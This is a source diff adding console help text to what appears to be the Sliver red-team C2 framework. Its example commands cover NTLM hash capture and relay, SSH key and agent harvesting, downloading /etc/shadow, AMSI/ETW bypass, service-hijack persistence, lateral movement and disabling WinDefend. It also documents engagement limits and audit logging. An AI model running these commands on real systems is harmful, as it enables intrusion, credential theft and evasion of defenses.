+[[.Bold]]About:[[.Normal]] Reverse port forwarding, the implant listens and forwards connections through the C2.
+
+By default the remote address is dialed by the server. With --local it is dialed by the console that added the
+forward instead, so the operator can reach services on their own machine. Local forwards only work while that console
+is connected, connections are closed if it does not pick them up. Use --allow to only forward connections from
+specific hosts, other connections are closed by the implant. Listing the forwards shows the number of connections
+and bytes transferred by each one.
+[[.Bold]]Examples:[[.Normal]]
+Forward connections to port 8080 on the implant to port 80 on the server:
+
+	rportfwd add --bind 8080 --remote 80
+
+Forward connections to a service on this console's machine, only from one subnet:
+
+	rportfwd add --bind 0.0.0.0:8443 --remote 127.0.0.1:443 --local --allow 10.0.0.0/24
+
+List existing forwards and their statistics:
+
+	rportfwd
+
+Stop and remove an existing forward:
+
+	rportfwd rm --id 1
+`
+	ntlmListenerHelp = `[[.Bold]]Command:[[.Normal]] ntlm-listener
+[[.Bold]]About:[[.Normal]] SMB listeners on the implant that capture NTLM authentication.
+
+Without --relay the implant answers SMB clients itself, it sends an NTLM challenge and denies access after the client
+authenticates. With --relay connections are forwarded through a reverse port forward (see 'rportfwd') to a relay tool
+such as ntlmrelayx, the authentication is picked out of the traffic as it passes. Captured NetNTLMv1/v2 hashes are
+saved to the loot credential store in hashcat's format (modes 5500 and 5600), each user's first hash of each type is
+kept. Port 445 is usually taken on Windows hosts, so bind to another port and redirect clients to it.
+[[.Bold]]Examples:[[.Normal]]
+Capture authentication on port 445:
+
+	ntlm-listener add
+
+Relay connections from one subnet to a relay tool on this console's machine:
+
+	ntlm-listener add --bind 0.0.0.0:8445 --relay 127.0.0.1:445 --local --allow 10.0.0.0/24
+
+List listeners and the number of hashes they captured:
+
+	ntlm-listener
+
+Stop a listener:
+
+	ntlm-listener rm --id 1
+`
+
+	multiplayerHelp = `[[.Bold]]Command:[[.Normal]] multiplayer [--lhost <host>] [--lport <port>] [--websocket]
+[[.Bold]]About:[[.Normal]] Start a listener for operator connections.
+
+[[.Bold]]Websockets[[.Normal]]
+With --websocket operators connect with websockets instead, for operators that can only reach the server through an
+HTTP proxy or standard web infrastructure (e.g. a reverse proxy or CDN terminating TLS on port 443). The websocket
+only carries the operator's mutual TLS connection, authentication is the same as the regular listener.
+
+Generate operator configs with the url operators connect to, HTTP_PROXY/HTTPS_PROXY are used if they're set:
+
+	multiplayer --websocket --lport 8080
+	new-operator --name zerocool --lhost example.com --websocket-url wss://example.com/sliver
+
+The daemon starts a websocket listener on 'websocket_port' of 'daemon' in server.json if it's set.
+`
+
+	engagementHelp = `[[.Bold]]Command:[[.Normal]] engagement [set <end>|unset]
+[[.Bold]]About:[[.Normal]] Show or change when the engagement ends, the end is saved in the server's config ('engagement'
+in server.json). Once the end has passed the server:
+
+  - Refuses to task implants, only 'kill' is allowed
+  - Kills every session, and cancels the pending tasks of every beacon and queues a kill task ahead of everything else
+  - Alerts on beacons that miss their next check in by more than 5 minutes, they're unreachable and may still be running
+
+The end is RFC3339, or a date for midnight UTC:
+
+	engagement set 2023-12-31T18:00:00-05:00
+	engagement set 2023-12-31
+	engagement unset
+`
+
+	artifactsHelp = `[[.Bold]]Command:[[.Normal]] artifacts [convert|save|rm]
+[[.Bold]]About:[[.Normal]] Shellcode artifacts are .NET assemblies converted to position independent shellcode with donut,
+the shellcode is saved on the server so every operator can reuse it:
+
+	artifacts convert ./Seatbelt.exe -- -group=system
+	artifacts convert ./Tools.dll --name tools --class Tools.Program --method Run
+
+Dlls need --class and --method, the arguments are passed to the executable's Main or the dll's method. The CLR is
+loaded with AMSI and WLDP bypassed when possible.
+
+[[.Bold]]Using Artifacts[[.Normal]]
+	execute-shellcode --artifact seatbelt
+	stage-listener --url http://1.2.3.4:8080 --artifact seatbelt
+	stage-listener --url tcp://1.2.3.4:8080 --profile win64 --stages artifact/seatbelt:av=defender
+`
+	playbooksHelp = `[[.Bold]]Command:[[.Normal]] playbooks [name]
+[[.Bold]]About:[[.Normal]] Playbooks are named lists of tasks saved on the server so every operator runs them the same way.
+Write the playbook as json and save it with 'playbooks import':
+
+{
+  "Name": "triage",
+  "Description": "Basic triage",
+  "Variables": [
+    {"Name": "dir", "Default": "/tmp"}
+  ],
+  "Steps": [
+    {"Name": "whoami", "Task": "execute", "Args": {"path": "whoami", "output": "true"}},
+    {"Name": "listing", "Task": "ls", "Args": {"path": "{{dir}}"}, "When": "{{os}} != windows"},
+    {"Name": "shadow", "Task": "download", "Args": {"path": "/etc/shadow"}, "When": "{{whoami.output}} contains root", "Approval": true}
+  ]
+}
+
+[[.Bold]]Tasks[[.Normal]]
+execute (path, args, output), ls (path), cd (path), pwd, mkdir (path), rm (path, recursive, force),
+download (path, name), ps and ifconfig. Downloads are saved to the loot store.
+
+[[.Bold]]Variables[[.Normal]]
+Arguments and conditions can use '{{name}}' for a playbook variable, a builtin (host, os, arch, username, name, pid)
+or a field of an earlier step ('{{step.ok}}', '{{step.err}}', '{{step.output}}', ...). Variables without a default
+must be set when the playbook is run.
+
+[[.Bold]]Conditions[[.Normal]]
+A step's 'When' is '<a> == <b>', '<a> != <b>', '<a> contains <b>', '<a> matches <regexp>' or a single value that's true
+unless it's empty, 'false' or '0'. Start it with '!' to negate it. Steps that don't match are skipped.
+
+[[.Bold]]Approvals[[.Normal]]
+Steps with 'Approval' wait for an operator to run 'playbooks approve <run>' or 'playbooks reject <run>'. Every task a
+playbook sends is written to the audit log with the run, the step and who approved it.
+
+	playbooks import ./triage.json
+	playbooks export triage ./triage.json
+	playbooks triage
+`
+
+	playbooksRunHelp = `[[.Bold]]Command:[[.Normal]] playbooks run [--tag <tag>] <name> [name=value...]
+[[.Bold]]About:[[.Normal]] Run a playbook against the active session or beacon, or against every host with a tag (one
+implant per host, sessions are preferred). Runs happen on the server, use 'playbooks runs' to see their progress and
+'playbooks approve' or 'playbooks reject' for steps waiting on an approval.
+
+	playbooks run triage dir=/home
+	playbooks run --tag prod triage
+	playbooks runs 3ad1
+	playbooks approve 3ad1
+`
+
+	bofRunHelp = `[[.Bold]]Command:[[.Normal]] bof run [--format <types>] <file> [arguments...]
+[[.Bold]]About:[[.Normal]] Run a BOF (Beacon Object File) on a windows session or beacon. The BOF is sent with the task, the
+'coff-loader' extension is loaded into the implant first if needed ('armory install coff-loader').
+
+[[.Bold]]Arguments[[.Normal]]
+Arguments are packed like Cobalt Strike's bof_pack(), --format has one character per argument:
+
+  b - binary data, read from a local file
+  i - 4-byte int
+  s - 2-byte short
+  z - string
+  Z - wide string
+
+Without --format every argument is a string:
+
+	bof run --format zi ./dir.x64.o C:\\Windows 1
+	bof run --format Z ./whoami.x64.o Administrator
+
+[[.Bold]]Output[[.Normal]]
+The BOF's output is printed once it completes. Use --parser to also parse the output with one of the server's output
+parsers, credentials and hosts it finds are saved to the loot store and hosts database.
+
+[[.Bold]]AMSI and ETW[[.Normal]]
+BOFs run in the implant's process, --amsi-bypass and --etw-bypass disable AMSI and ETW there before the BOF
+is loaded (see: help execute-assembly).
 `
+
+	reconfigHelp = `[[.Bold]]Command:[[.Normal]] reconfig <options>
+[[.Bold]]About:[[.Normal]] Change the reconnect interval, beacon interval and jitter, working hours, or kill date of the
+active beacon/session. Changes only last until the implant restarts, the current working hours and kill date are shown
+once the implant has been reconfigured.
+
+[[.Bold]][[.Underline]]++ Working Hours ++[[.Normal]]
+Working hours are '[days] HH:MM-HH:MM' in the target's local time, days are a range or a comma separated list and default
+to every day. Windows that end before they start run overnight. Outside of working hours beacons stop checking in and
+sessions drop their connection, both reconnect once the working hours start again:
+
+	reconfig --working-hours 'Mon-Fri 08:00-18:00'
+	reconfig --working-hours 'Mon,Wed,Fri 22:00-06:00'
+	reconfig --working-hours none
+
+[[.Bold]][[.Underline]]++ Kill Date ++[[.Normal]]
+Once the kill date has passed the implant stops its watchdog, deletes its executable (executables only), and exits. The
+kill date is RFC3339, or a date for midnight UTC:
+
+	reconfig --kill-date 2023-12-31
+	reconfig --kill-date 2023-12-31T18:00:00-05:00
+	reconfig --kill-date none
+`
+
+	proxyHelp = `[[.Bold]]Command:[[.Normal]] proxy
+[[.Bold]]About:[[.Normal]] Show the c2 and the proxy the active beacon/session connected through.
+`
+
+	proxySetHelp = `[[.Bold]]Command:[[.Normal]] proxy set
+[[.Bold]]About:[[.Normal]] Override the proxy used by the implant's http(s) c2 at runtime. The implant drops its
+current connection and reconnects to the same c2 right away with the new settings, sessions show up as a new session.
+The override replaces the proxy options from generate time until it's cleared or the implant restarts.
+
+Only the 'go' http driver uses these settings, the 'wininet' driver always uses the system's proxy settings. PAC files
+are only supported on Windows.
+
+[[.Bold]]Examples:[[.Normal]]
+
+Use an explicit proxy, with credentials:
+
+	proxy set --url http://10.0.0.1:8080
+	proxy set --url http://10.0.0.1:8080 --username bob --password hunter2
+
+Get the proxy from a PAC file:
+
+	proxy set --pac http://wpad.corp.local/wpad.dat
+
+Connect directly, or use the system's proxy settings:
+
+	proxy set --direct
+	proxy set --auto
+
+Go back to the settings from generate time:
+
+	proxy set --clear
+`
+
+	redirectHelp = `[[.Bold]]Command:[[.Normal]] redirect <c2s>
+[[.Bold]]About:[[.Normal]] Point the implant's transports at other c2s at runtime. The implant drops its current
+connection and reconnects to the first c2 right away, afterwards the c2s replace the ones from generate time until the
+redirect is cleared or the implant restarts. Only protocols the implant was generated with can be used.
+
+Combined with 'sliver-server export-beacons' and 'import-beacons' this moves beacons to another server without losing
+access: import the beacons on the new server, start listeners for the c2s, then redirect the beacons. The new server
+accepts the beacons' keys and queued tasks, the beacons re-register with the same ID. mTLS c2 also needs the old
+server's mtls CA ('export-ca'/'import-ca'), wg c2 can't be moved.
+
+[[.Bold]]Examples:[[.Normal]]
+
+	redirect https://new.example.com
+	redirect https://new.example.com dns://new.example.com
+
+Go back to the c2s from generate time:
+
+	redirect --clear
+`
+
 	wgSocksHelp = `[[.Bold]]Command:[[.Normal]] wg-socks
 [[.Bold]]About:[[.Normal]] Create a socks5 listener on the implant Wireguard tun interface
 [[.Bold]]Examples:[[.Normal]]
@@ -554,6 +1764,14 @@ Stop and remove an existing listener:
 
 	wg-socks rm 0
 `
+	wgRotateKeysHelp = `[[.Bold]]Command:[[.Normal]] wg-rotate-keys
+[[.Bold]]About:[[.Normal]] Switch the WireGuard session to new keys.
+
+The server generates new keys for the session and sends them to the implant, the implant acknowledges them and
+switches a few seconds later. The server drops the old keys once they're acknowledged, the session's tunnel IP
+stays the same so the session, port forwards, and socks listeners are not interrupted. Only sessions are supported.
+`
+
 	wgPortFwdHelp = `[[.Bold]]Command:[[.Normal]] wg-portfwd
 [[.Bold]]About:[[.Normal]] Create a TCP port forward on the implant Wireguard tun interface
 [[.Bold]]Examples:[[.Normal]]
@@ -584,6 +1802,25 @@ ssh bastion cat /etc/passwd
 
 # Connect to a remote host by specifying a username
 ssh -l ubuntu ec2-instance ps aux
+`
+
+	sshHarvestHelp = `[[.Bold]]Command:[[.Normal]] ssh-harvest [--user USER] [--loot] [--skip-agents]
+[[.Bold]]About:[[.Normal]] (Linux/macOS) Enumerate the ~/.ssh directory of every home directory the implant can read:
+private and public keys (type, fingerprint and whether the key is encrypted), authorized_keys, known_hosts and
+the hosts in ssh configs. Hashed known_hosts entries are only counted.
+
+The implant also connects to the agent sockets it can find, its own SSH_AUTH_SOCK, the SSH_AUTH_SOCK of every
+process it can read the environment of (Linux), and the usual socket locations, and lists the loaded identities.
+An agent with identities can be used for lateral movement by the owner of the socket (or root).
+
+With --loot the private key files are returned and saved as credential loot.
+[[.Bold]]Examples:[[.Normal]]
+
+# Harvest every user and save the private keys as loot
+ssh-harvest --loot
+
+# Only root's keys, without touching the agents
+ssh-harvest -u root --skip-agents
 `
 
 	lootHelp = `[[.Bold]]Command:[[.Normal]] loot
@@ -618,6 +1855,9 @@ loot --filter creds
 
 # Display the contents of a piece of loot:
 loot fetch
+
+# Skip the menu and fetch a piece of loot by id (press tab to complete ids):
+loot fetch <id>
 `
 
 	reactionHelp = fmt.Sprintf(`[[.Bold]]Command:[[.Normal]] reaction
@@ -701,6 +1941,132 @@ dllhijack --reference-path c:\\windows\\system32\\msasn1.dll --reference-file /t
 
 	getPrivsHelp = `[[.Bold]]Command:[[.Normal]] getprivs
 [[.Bold]]About:[[.Normal]] Get privilege information for the current process (Windows only).
+`
+
+	logonsHelp = `[[.Bold]]Command:[[.Normal]] logons
+[[.Bold]]About:[[.Normal]] List the logon sessions on the system (Windows only).
+
+Enumerates logon sessions via the LSA along with their logon type, authentication package, terminal session state
+and idle time. The "Creds" column indicates whether the logon type normally leaves reusable credential material in
+LSASS (network logons do not), and "Tokens" is the number of processes running with that logon session's token.
+Use --tokens to list those processes, which are candidates for 'impersonate' or 'migrate'.
+`
+
+	localGroupsHelp = `[[.Bold]]Command:[[.Normal]] local-groups [--hosts host1,host2] [--hosts-file path] [--groups names]
+[[.Bold]]About:[[.Normal]] Survey local group members on hosts in the network (Windows only).
+
+Enumerates the members of local groups with NetLocalGroupGetMembers from the implant's host. By default the
+Administrators, Remote Desktop Users, Remote Management Users, Distributed COM Users and Backup Operators groups
+are surveyed, these are looked up by their well known SIDs so they're found on hosts with localized group names.
+Up to 8 hosts are surveyed in parallel as the current token, or as --username/--password like 'runas /netonly'.
+
+The results are saved to the implant's host, use 'hosts local-groups' to review them later. Surveying a group
+again replaces the members previously saved for it.
+
+[[.Bold]]Examples:[[.Normal]]
+	local-groups --hosts-file ./servers.txt
+	local-groups --hosts ws01,ws02 --groups "S-1-5-32-544,Hyper-V Administrators" --username CORP\svc_backup --password Passw0rd
+`
+
+	serviceHijacksHelp = `[[.Bold]]Command:[[.Normal]] service-hijacks [--exploit service --file path]
+[[.Bold]]About:[[.Normal]] Survey services that can be hijacked for persistence (Windows only).
+
+Without --exploit this is read-only, the services in the registry are checked against the current token with
+AccessCheck (an impersonated token is used if there is one). A service can be hijacked with more than one of:
+
+	unquoted-path  - The image path is unquoted and has spaces, and a path the loader tries first can be written
+	binary-dacl    - The service's binary can be written, or its DACL or owner changed
+	registry-dacl  - The service's registry key can be written, so its ImagePath can be changed
+	writable-dir   - Files in the binary's directory can be added and renamed, so the binary can be swapped out
+
+The --exploit step installs a service binary (e.g. 'generate --format service') with the chosen technique, it
+only works with interactive sessions. Replaced binaries are renamed to '<binary>.bak'. Nothing is restarted, the
+binary runs as the service's account the next time the service starts. Each hijack is recorded with how to undo
+it, see 'persistence'.
+
+[[.Bold]]Examples:[[.Normal]]
+	service-hijacks
+	service-hijacks --exploit VulnSvc --file ./VULN_SVC.exe
+	service-hijacks --exploit VulnSvc --technique registry-dacl --file ./VULN_SVC.exe --path C:\ProgramData\vulnsvc.exe
+`
+
+	servicesHelp = `[[.Bold]]Command:[[.Normal]] services [--hostname host] [--filter text] [--running]
+[[.Bold]]About:[[.Normal]] List the services of the host, or a remote host with --hostname (Windows only).
+
+Services are listed through the service control manager with only the access needed to read them, so this works
+without administrator rights. The configuration of services the current token can't query is left empty. Use the
+subcommands to start, stop, create, delete and reconfigure services, remote hosts need administrator rights on
+the host, e.g. through 'make-token' or 'impersonate'.
+
+[[.Bold]]Examples:[[.Normal]]
+	services --running
+	services --filter sql
+	services --hostname dc01.corp.local
+`
+
+	servicesStartHelp = `[[.Bold]]Command:[[.Normal]] services start <name> [arguments...]
+[[.Bold]]About:[[.Normal]] Start an installed service and wait for it to run.
+
+[[.Bold]]Examples:[[.Normal]]
+	services start Spooler
+	services start --hostname fs01.corp.local RemoteRegistry
+`
+
+	servicesStopHelp = `[[.Bold]]Command:[[.Normal]] services stop <name>
+[[.Bold]]About:[[.Normal]] Stop a running service and wait for it to stop.
+`
+
+	servicesCreateHelp = `[[.Bold]]Command:[[.Normal]] services create <name> <bin-path>
+[[.Bold]]About:[[.Normal]] Create a service running the binary path, which can include arguments.
+
+The service is created with a manual start type and only started with --start. Services that start on boot
+(--start-type auto or delayed-auto) are recorded as persistence, see 'persistence'. Use --password to be prompted
+for the password of a user --account. Combined with --hostname this is service-based lateral movement, upload the
+binary first (e.g. 'generate --format service').
+
+[[.Bold]]Examples:[[.Normal]]
+	services create --start-type auto --description "Updates drivers" DrvUpdate "C:\ProgramData\drvupdate.exe"
+	services create --hostname fs01.corp.local --start Updater "\\fs01\ADMIN$\updater.exe"
+`
+
+	servicesDeleteHelp = `[[.Bold]]Command:[[.Normal]] services delete <name>
+[[.Bold]]About:[[.Normal]] Delete a service, running services are removed once they stop.
+`
+
+	servicesConfigHelp = `[[.Bold]]Command:[[.Normal]] services config <name> [--bin-path path] [--start-type type] [--account name]
+[[.Bold]]About:[[.Normal]] Show or change the configuration of a service.
+
+Without flags the service's configuration is shown, otherwise only the given fields are changed. Changing the binary
+path of an existing service is a quiet way to run a binary as the service's account, restore it afterwards.
+
+[[.Bold]]Examples:[[.Normal]]
+	services config Spooler
+	services config --start-type disabled WinDefend
+	services config --bin-path "C:\ProgramData\svc.exe" --account LocalSystem VulnSvc
+`
+
+	persistenceHelp = `[[.Bold]]Command:[[.Normal]] persistence
+[[.Bold]]About:[[.Normal]] List persistence installed on hosts.
+
+Commands that install persistence (e.g. 'service-hijacks --exploit') record where it was installed, by who, and
+how to undo it. The records are stored on the server so every operator sees them, use them to clean up at the
+end of an engagement.
+`
+
+	persistenceRmHelp = `[[.Bold]]Command:[[.Normal]] persistence rm <id>
+[[.Bold]]About:[[.Normal]] Remove a persistence record once it has been cleaned up, this does not undo it.
+`
+
+	maskSecretsHelp = `[[.Bold]]Command:[[.Normal]] settings mask-secrets
+[[.Bold]]About:[[.Normal]] Toggle masking of secrets in the console's output.
+
+While enabled (the default) anything that looks like a secret is replaced with ******** before it's printed, so
+screen shares and screenshots don't leak harvested credentials. This includes private keys, LM/NT and NetNTLMv2
+hashes, crypt and kerberos hashes, labeled passwords and API keys (e.g. 'Password: ...'), and passwords in
+command lines (e.g. '--password ...' or '/p:...'), as well as the passwords and API keys in the loot table.
+
+Masking is a best effort, it only applies to the console's output and not to downloaded or saved files. Toggle
+it off to reveal secrets, use 'settings save' to remember the choice.
 `
 
 	cursedChromeHelp = `[[.Bold]]Command:[[.Normal]] cursed chrome